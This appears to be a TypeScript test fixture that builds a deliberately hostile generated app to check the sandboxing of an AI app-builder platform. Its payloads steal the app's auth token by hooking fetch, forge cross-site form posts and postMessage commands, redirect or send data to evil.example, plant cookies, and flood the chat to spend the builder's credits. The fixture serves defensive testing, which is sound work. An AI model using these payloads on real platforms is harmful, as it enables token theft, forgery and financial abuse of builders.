/** Targets of the hostile code. */
export interface Targets {
  readonly builderUrl: string;
  readonly runtimeUrl: string;
  /** Another builder's published app. */
  readonly otherAppId: string;
  readonly otherUrl: string;
}

/**
 * A generated app that attempts forbidden actions. Each attempt renders its result into the page: the error's name, or the value obtained.
 * The text below is the app's own code, as a model could have written it.
 */
export function hostileFiles(targets: Targets): Record<string, Record<string, string>> {
  const aims = Object.entries(targets)
    .map(([name, value]) => `const ${name} = ${JSON.stringify(value)};`)
    .join('\n');
  return {
    pages: {
      Home: `export default function Home() { return <h1>Welcome</h1>; }`,
      Preview: `import { previewAttacks } from '@/services/preview';\nimport Attempts from '@/components/Attempts';
export default function Preview() { return <Attempts attacks={previewAttacks}/>; }`,
      Published: `import { publishedAttacks } from '@/services/published';\nimport Attempts from '@/components/Attempts';
export default function Published() { return <Attempts attacks={publishedAttacks}/>; }`,
      Enter: `import { User } from '@/entities/User';
export default function Enter() { return <button onClick={() => User.login('/published')}>Log in</button>; }`,
      Ask: `import { useEffect } from 'react';
const ask = () => { for (let i = 0; i < 50; i++) window.sayso.sendChatMessage('Spend it all ' + i); };
export default function Ask() {
  useEffect(() => { ask(); setTimeout(() => { ask(); setTimeout(() => console.log('asked'), 500); }, 500); }, []);
  // A browser believes in a click for some seconds: long enough for an answer, and the next question.
  const click = () => { ask(); for (const ms of [1500, 3000, 4000]) setTimeout(ask, ms); setTimeout(() => console.log('asked again'), 4500); };
  return <button id="ask" onClick={click}>Nice button</button>;
}`,
      Point: POINT,
      Forever: `import { useEffect } from 'react';
export default function Forever() { useEffect(() => { setTimeout(() => { console.log('for ever'); for (;;) {} }, 50); }, []); return <p id="forever">for ever</p>; }`,
    },
    components: { Attempts: ATTEMPTS },
    services: {
      preview: `import { Note } from '@/entities/Note';\n${aims}\n${COMMON}\n${PREVIEW}`,
      bare: 'export const address = import.meta.url;',
      published: `import { Note } from '@/entities/Note';\n${aims}\n${COMMON}\n${PUBLISHED}`,
    },
    entities: { Note: NOTE },
  };
}

/** Tries to change what the builder has selected: without a question, and by answering one first, more than once, and later. */
const POINT = `import { useEffect } from 'react';
const nonce = new URLSearchParams(Reflect.get(window, 'location').hash.slice(1)).get('nonce');
const element = { places: [{ file: 'pages/Point', line: 23, column: 35, count: 1 }], row: { entity: 'Note', id: 'x' } };
const say = (message) => window.parent.postMessage({ source: 'sayso-preview', nonce, ...message }, '*');
const asked = [undefined, null, '', 'guess'];
function forge() {
  for (const id of asked) say({ type: 'picked', id, element });
  say({ type: 'selected', element });
  for (const type of ['pointerdown', 'pointerup', 'click']) document.querySelector('h1')?.dispatchEvent(new PointerEvent(type, { bubbles: true }));
}
export default function Point() {
  useEffect(() => {
    let rounds = 0;
    setInterval(() => { forge(); rounds += 1; if (rounds % 10 === 0) console.log('forged, asked ' + (asked.length - 4)); }, 20);
    window.addEventListener('message', ({ data }) => {
      if (data.type !== 'pick') return;
      asked.push(data.id);
      forge();
      element.places[0].column = 47;
      forge();
    });
  }, []);
  return <main><h1>Welcome</h1><p><i>Small</i><b>Other</b></p></main>;
}`;

/** A table that only its makers read. */
export const NOTE = JSON.stringify({
  name: 'Note',
  type: 'object',
  properties: { text: { type: 'string' } },
  'x-accessControl': { permissions: { read: 'creator', write: 'creator' } },
});

const ATTEMPTS = `import { useEffect, useState } from 'react';
async function attempt(run) {
  try { return { got: await Promise.race([run(), new Promise((resolve) => setTimeout(() => resolve('nothing came'), 4000))]) }; }
  catch (error) { return { refused: error?.name ?? String(error), status: error?.status }; }
}
export default function Attempts({ attacks }) {
  const [results, setResults] = useState(null);
  useEffect(() => { void (async () => {
    const all = {};
    for (const [name, run] of Object.entries(attacks)) all[name] = await attempt(run);
    setResults(all);
  })(); }, []);
  return results && <pre id="results">{JSON.stringify(results)}</pre>;
}`;

const SEND = 'mutation ($input: SendMessageInput!) { sendMessage(input: $input) { id } }';
const COMMON = `
/** The token that the app's own calls carry. */
async function stolenToken() {
  const { fetch } = window;
  let token = null;
  window.fetch = (url, init) => { token = init.headers.authorization ?? null; return fetch(url, init); };
  await Note.list().catch(() => null);
  window.fetch = fetch;
  return token;
}
const frameOf = (src) => new Promise((resolve) => {
  const frame = document.createElement('iframe');
  frame.onload = frame.onerror = () => resolve(frame);
  if (src) frame.src = src;
  document.body.append(frame);
});
const post = (url, options) => fetch(url, { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json' }, ...options })
  .then(async (answer) => answer.status + ' ' + (await answer.text()));
const CREATE = JSON.stringify({ query: 'mutation { createApp(input: { name: "Forged" }) { id } }' });
/** A form needs no permission to be read: it only has to arrive. */
function formTo(target) {
  const form = document.createElement('form');
  Object.assign(form, { method: 'POST', enctype: 'text/plain', action: builderUrl + '/graphql', target });
  const field = document.createElement('input');
  field.name = CREATE.slice(0, -1) + ',"x":"';
  field.value = '"}';
  form.append(field);
  document.body.append(form);
  form.submit();
}
const socket = (url) => new Promise((resolve, reject) => {
  const opened = new WebSocket(url, 'graphql-transport-ws');
  opened.onopen = () => resolve('open');
  opened.onerror = () => reject(new DOMException('', 'SocketRefused'));
});
/** Messages to the assistant are what costs the builder something: asked for with the app's own token, at every host that might take it. */
async function spend() {
  const authorization = await stolenToken();
  const { appId } = JSON.parse((document.getElementById('sayso-app') ?? document.getElementById('sayso-preview')).textContent);
  const calls = (host) => [
    [host + '/api/apps/' + appId + '/chat', { messages: [{ role: 'user', content: 'Spend it all' }] }],
    [host + '/graphql', { query: ${JSON.stringify(SEND)}, variables: { input: { appId, content: 'Spend it all', clientId: crypto.randomUUID() } } }],
  ];
  let granted = 0;
  const tries = ['', builderUrl, runtimeUrl].flatMap(calls).flatMap((call) => Array(10).fill(call));
  await Promise.all(tries.map(async ([url, body]) => {
    const options = { method: 'POST', headers: { 'content-type': 'application/json', authorization }, body: JSON.stringify(body) };
    const answer = await fetch(url, options).catch(() => null);
    if (answer?.ok && !/"errors"/.test(await answer.text())) granted++;
  }));
  return (authorization?.startsWith('Bearer ') ? 'with a token: ' : 'without a token: ') + granted;
}
`;

const PREVIEW = `
const ownAppId = JSON.parse(document.getElementById('sayso-preview').textContent).appId;
const nonce = new URLSearchParams(Reflect.get(window, 'location').hash.slice(1)).get('nonce');
const frameMessage = (message) => window.parent.postMessage({ source: 'sayso-preview', nonce, ...message }, '*');
export const previewAttacks = {
  origin: () => self.origin,
  parentDocument: () => window.parent.document.title,
  parentStorage: () => window.parent.localStorage.length,
  parentName: () => window.parent.name,
  topAddress: () => window.top.location.href,
  ownCookies: () => Object.getOwnPropertyDescriptor(Document.prototype, 'cookie').get.call(document),
  ownStorage: async () => (await frameOf()).contentWindow.localStorage.length,
  ownDatabase: async () => (await frameOf()).contentWindow.indexedDB.open('x'),
  database: async () => (await indexedDB.databases()).length,
  caches: async () => (await caches.keys()).length,
  navigateTop: () => { window.top.location.href = 'https://evil.example/'; },
  replaceParent: () => { window.parent.location.replace('https://evil.example/'); },
  openTop: () => String(window.open('https://evil.example/', '_top')),
  linkTop: () => { const link = document.createElement('a'); link.href = 'https://evil.example/'; link.target = '_top'; document.body.append(link); link.click(); },
  openBuilder: async () => { const opened = window.open(builderUrl + '/home'); await new Promise((resolve) => setTimeout(resolve, 1500)); return opened.document.title; },
  serviceWorker: () => navigator.serviceWorker.register('/m/worker.js').then(() => 'registered'),
  graphql: () => post(builderUrl + '/graphql', { body: CREATE }),
  graphqlPlain: () => post(builderUrl + '/graphql', { mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body: CREATE }),
  api: () => fetch(builderUrl + '/api/apps', { credentials: 'include' }).then((answer) => answer.text()),
  socket: () => socket(builderUrl.replace('http', 'ws') + '/graphql'),
  form: () => formTo('_blank'),
  formElsewhere: () => { const form = document.createElement('form'); form.action = 'https://evil.example/'; form.target = '_blank'; document.body.append(form); form.submit(); },
  frameElsewhere: async () => { await frameOf('https://evil.example/login'); },
  refresh: async () => {
    const authorization = await stolenToken();
    const rest = '/live_api/apps/' + ownAppId + '/';
    const answer = await fetch(runtimeUrl + rest + 'auth/refresh', { method: 'POST', headers: { authorization } });
    return (await fetch(runtimeUrl + rest + 'entities/Note', { headers: { authorization } })).status + ', refreshed: ' + answer.status;
  },
  framed: async () => (await frameOf(builderUrl + '/home')).contentDocument.title,
  elsewhere: () => fetch('https://evil.example/?rows').then(() => 'sent'),
  clipboard: () => navigator.clipboard.readText(),
  otherApp: async () => {
    const authorization = await stolenToken();
    const { status } = await fetch(runtimeUrl + '/live_api/apps/' + otherAppId + '/entities/Note', { headers: { authorization } });
    return (authorization?.startsWith('Bearer ') ? 'with a token: ' : 'without a token: ') + status;
  },
  wrongNonce: () => { frameMessage({ nonce: 'guess', type: 'send-chat-message', content: 'Forged with a wrong nonce' }); },
  wrongSource: () => { frameMessage({ source: 'sayso-builder', type: 'send-chat-message', content: 'Forged as the builder' }); },
  ownNavigation: () => { window.postMessage({ source: 'sayso-builder', nonce, type: 'navigate', page: 'Forever' }, '*'); },
  malformed: () => { for (const error of [null, 7, { title: {} }]) frameMessage({ type: 'app-error', error }); frameMessage({ type: 'app-changed-url', path: 7, page: '//evil.example' }); },
  spend,
};
`;

const PUBLISHED = `
const opened = async (url) => { const other = window.open(url); await new Promise((resolve) => setTimeout(resolve, 1500)); return other; };
const ownAppId = JSON.parse(document.getElementById('sayso-app').textContent).appId;
export const publishedAttacks = {
  origin: () => self.origin.replace(/^http:\\/\\/[a-z0-9-]+\\./, 'http://*.').replace(/:\\d+$/, ''),
  cookies: () => document.cookie,
  plantCookie: () => { document.cookie = 'sayso.session_token=forged; domain=localhost; path=/'; return document.cookie; },
  graphql: () => post(builderUrl + '/graphql', { body: CREATE }),
  graphqlPlain: () => post(builderUrl + '/graphql', { mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body: CREATE }),
  api: () => fetch(builderUrl + '/api/apps', { credentials: 'include' }).then((answer) => answer.text()),
  socket: () => socket(builderUrl.replace('http', 'ws') + '/graphql'),
  ownGraphql: () => post('/graphql', { body: CREATE }).then((answer) => answer.slice(0, 3)),
  ownApi: () => fetch('/api/apps', { credentials: 'include' }).then((answer) => answer.status),
  form: () => formTo('_blank'),
  image: () => new Promise((resolve, reject) => { const image = new Image(); image.onload = () => resolve('loaded'); image.onerror = () => reject(new DOMException('', 'ImageRefused')); image.src = builderUrl + '/favicon.svg'; }),
  openBuilder: async () => (await opened(builderUrl + '/home')).document.title,
  forge: async () => {
    // Imitates its own preview: a correct message to the open builder window, except for the secret nonce.
    const other = await opened(builderUrl + '/build/app/' + ownAppId + '/published');
    for (const source of ['sayso-preview', 'sayso-builder']) {
      for (const type of ['send-chat-message', 'ready', 'app-error']) other.postMessage({ source, nonce: '', type, content: 'Forged', page: '//evil.example' }, '*');
    }
  },
  framePreview: async () => (await frameOf(runtimeUrl + '/preview/' + ownAppId + '#nonce=mine')).contentWindow.postMessage({ source: 'sayso-builder', nonce: 'mine', type: 'init', token: 'x' }, '*'),
  top: () => { window.top.location.href = '#top'; return window.top === window.self; },
  openOther: async () => (await opened(otherUrl)).localStorage.length,
  frameBuilder: async () => (await frameOf(builderUrl + '/home')).contentDocument.title,
  frameOther: async () => (await frameOf(otherUrl)).contentWindow.localStorage.length,
  serviceWorker: async () => {
    // A module that would run as one: it imports nothing and asks for no window.
    const { address } = await import('@/services/bare');
    return navigator.serviceWorker.register(address, { type: 'module', scope: '/m/' }).then(() => 'registered');
  },
  elsewhere: () => fetch('https://evil.example/?rows').then(() => 'sent'),
  otherApp: async () => {
    const authorization = await stolenToken();
    const { status } = await fetch('/live_api/apps/' + otherAppId + '/entities/Note', { headers: { authorization } });
    return (authorization?.startsWith('Bearer ') ? 'with a token: ' : 'without a token: ') + status;
  },
  evaluate: () => new Function('return 1')(),
  spend,
};
`;
